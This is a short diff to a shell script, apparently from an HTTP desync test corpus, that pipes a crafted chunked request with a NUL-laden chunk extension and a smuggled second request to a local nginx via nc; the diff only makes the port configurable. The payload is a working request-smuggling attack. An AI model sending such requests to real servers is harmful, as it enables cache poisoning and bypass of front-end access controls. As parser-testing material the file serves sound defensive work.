@@ -1,3 +1,3 @@
 #!/bin/sh
 # desync/chunk-extension-invalid/smuggled-request via chunk.extension+stream.duplicate against nginx
-printf 'T / HTTP/1.1\r\nHost:127.0.0.1:49285\r\nTransfer-Encoding:chunked\r\n\r\n0;\000\n\nST / HTTP/1.1\r\nHost:}\r\n\r\n' | nc 127.0.0.1 49285
+printf 'T / HTTP/1.1\r\nHost:127.0.0.1:49285\r\nTransfer-Encoding:chunked\r\n\r\n0;\000\n\nST / HTTP/1.1\r\nHost:}\r\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
